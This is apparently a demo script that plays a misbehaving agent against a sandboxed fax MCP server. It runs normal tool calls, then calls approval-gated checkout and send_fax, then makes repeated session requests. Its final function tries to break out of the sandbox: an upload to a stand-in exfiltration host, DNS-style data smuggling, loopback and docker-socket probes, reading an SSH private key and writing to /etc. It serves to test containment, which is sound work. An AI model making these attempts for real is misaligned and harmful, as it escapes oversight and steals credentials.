// SPDX-License-Identifier: Apache-2.0
//
// The demo's agent: node agent.mjs [URL [BAIT]]
//
// Does with PromptFax what an agent would do, then what it should not, then tries to get
// out. Prints what came of each. URL: https://promptfax.app/mcp. BAIT: JSON with places
// outside the jail that do listen: {"tcp": port, "udp": port, "sockets": [path]}.
// Needs nothing but Node 18.
import { createConnection } from 'node:net';
import { createSocket } from 'node:dgram';
import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const url = process.argv[2] ?? 'https://promptfax.app/mcp';
const bait = JSON.parse(process.argv[3] ?? '{}');
const WAIT_MS = 1500;

const say = (text = '') => console.log(text);
const wait = (ms) => new Promise((settle) => setTimeout(settle, ms));

// --- MCP, by hand -----------------------------------------------------------

let session;
let lastId = 0;

async function post(message) {
	const headers = { 'content-type': 'application/json',
			  accept: 'application/json, text/event-stream' };

	if (session)
		Object.assign(headers, { 'mcp-session-id': session, 'mcp-protocol-version': '2025-11-25' });
	const response = await fetch(url, { method: 'POST', headers,
					    body: JSON.stringify({ jsonrpc: '2.0', ...message }) });

	session ??= response.headers.get('mcp-session-id');
	return response;
}

async function request(method, params = {}) {
	const response = await post({ id: ++lastId, method, params });
	const { result, error } = await response.json();

	if (error)
		throw new Error(`${method}: ${error.message}`);
	return result;
}

async function call(tool, args) {
	const result = await request('tools/call', { name: tool, arguments: args });
	const text = result.content.map((part) => part.text).join(' ');

	return { denied: result.isError === true, text, ...result.structuredContent };
}

function tell(what, outcome, detail) {
	if (outcome.denied)
		say(`  ${what.padEnd(18)} denied    ${outcome.text}`);
	else
		say(`  ${what.padEnd(18)} answered  ${detail ?? outcome.text}`);
	return outcome;
}

async function work() {
	say('What an agent does:');
	await request('initialize', { protocolVersion: '2025-11-25', capabilities: {},
				      clientInfo: { name: 'demo-agent', version: '1.0.0' } });
	await post({ method: 'notifications/initialized' });
	const { tools } = await request('tools/list');

	say(`  tools/list         answered  ${tools.map((tool) => tool.name).sort().join(' ')}`);
	const file = { url: 'https://files.example.com/contract-12p.pdf', fileName: 'contract-12p.pdf' };
	const { sessionId } = tell('start_session', await call('start_session',
		{ hostType: 'other', files: [file] }));

	tell('attach_document', await call('attach_document',
		{ sessionId, fileUrls: ['https://files.example.com/annex-2p.pdf'] }));
	const quote = await call('get_quote', { sessionId, faxNumber: '+12025550142' });
	const { sendIntentId } = tell('get_quote', quote,
		`${quote.pages} pages cost $${(quote.amountCents / 100).toFixed(2)}`);

	tell('get_status', await call('get_status', { sessionId, sendIntentId }));
	say();
	say('What a person has to approve:');
	tell('checkout', await call('checkout', { sessionId, sendIntentId }));
	tell('send_fax', await call('send_fax', { sessionId, sendIntentId }));
	say();
	say('Too much of a good thing:');
	for (let i = 2; i <= 12; i++)
		tell(`start_session #${i}`, await call('start_session', { hostType: 'other' }), 'a session');
}

// --- ways out ---------------------------------------------------------------

function verdict(what, gotOut, how) {
	say(`  ${gotOut ? 'ESCAPED' : 'held   '}  ${what.padEnd(40)} ${how}`);
}

/* Whoever listens outside says "bait"; nothing in the jail does. */
function tcp(what, options) {
	return new Promise((settle) => {
		const socket = createConnection(options);
		let heard = '';
		let ended = false;
		const end = (how) => {
			if (ended)
				return;
			ended = true;
			socket.destroy();
			verdict(what, heard.includes('bait'), heard.split('\n')[0] || how);
			settle();
		};

		socket.setTimeout(WAIT_MS, () => end('no answer'));
		socket.on('connect', () => socket.write('hello\r\n\r\n'));
		socket.on('data', (data) => { heard += data; });
		socket.on('error', (error) => end(error.code));
		socket.on('close', () => end('closed'));
	});
}

/* A query for secret.exfiltration.example, as malware would smuggle data in names. */
const DNS_QUERY = Buffer.concat([
	Buffer.from([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
	Buffer.from('\x06secret\x0cexfiltration\x07example\x00', 'latin1'),
	Buffer.from([0, 1, 0, 1]),
]);

async function udp(what, address, port) {
	const socket = createSocket('udp4');
	let how = 'no answer';
	let gotOut = false;

	socket.on('error', (error) => { how = error.code; });
	socket.on('message', (data) => {
		const isSynthetic = data.length > 4 && data.at(-4) === 198 && (data.at(-3) & 0xfe) === 18;

		gotOut = data.includes('bait');
		how = isSynthetic ? `the jail's own DNS says ${[...data.subarray(-4)].join('.')}` : 'an answer';
	});
	socket.send(DNS_QUERY, port, address, (error) => { how = error ? error.code : how; });
	await wait(WAIT_MS / 3);
	socket.close();
	verdict(what, gotOut, how);
}

async function https(what, target) {
	try {
		const response = await fetch(target, { signal: AbortSignal.timeout(WAIT_MS * 2) });
		const text = (await response.text()).split('\n')[0];

		verdict(what, !text.startsWith('mcpjail: '), `${response.status} ${text}`);
	} catch (error) {
		verdict(what, false, error.cause?.code ?? error.name);
	}
}

function attempt(what, action) {
	try {
		const seen = action();

		verdict(what, seen.length > 0, seen.length ? 'done' : 'nothing there');
	} catch (error) {
		verdict(what, false, error.code);
	}
}

async function escape() {
	say();
	say('Ways out:');
	await https('HTTPS to another host', 'https://exfiltration.example/upload');
	await tcp('TCP to a literal IPv4 address', { host: '192.0.2.1', port: 443 });
	await tcp('TCP to a literal IPv6 address', { host: '2001:db8::1', port: 25 });
	await udp('DNS to a resolver of its own', '192.0.2.53', 53);
	if (bait.tcp)
		await tcp("TCP to the host's loopback", { host: '127.0.0.1', port: bait.tcp });
	if (bait.udp)
		await udp("UDP to the host's loopback", '127.0.0.1', bait.udp);
	for (const path of ['/run/docker.sock', ...bait.sockets ?? []])
		await tcp(`unix socket ${path}`, { path });
	attempt(`reading ${join(homedir(), '.ssh')}`, () => readFileSync(join(homedir(), '.ssh', 'id_ed25519')));
	attempt('writing /etc/mcpjail-demo', () => {
		writeFileSync('/etc/mcpjail-demo', 'x');
		return 'written';
	});
}

await work();
await escape();
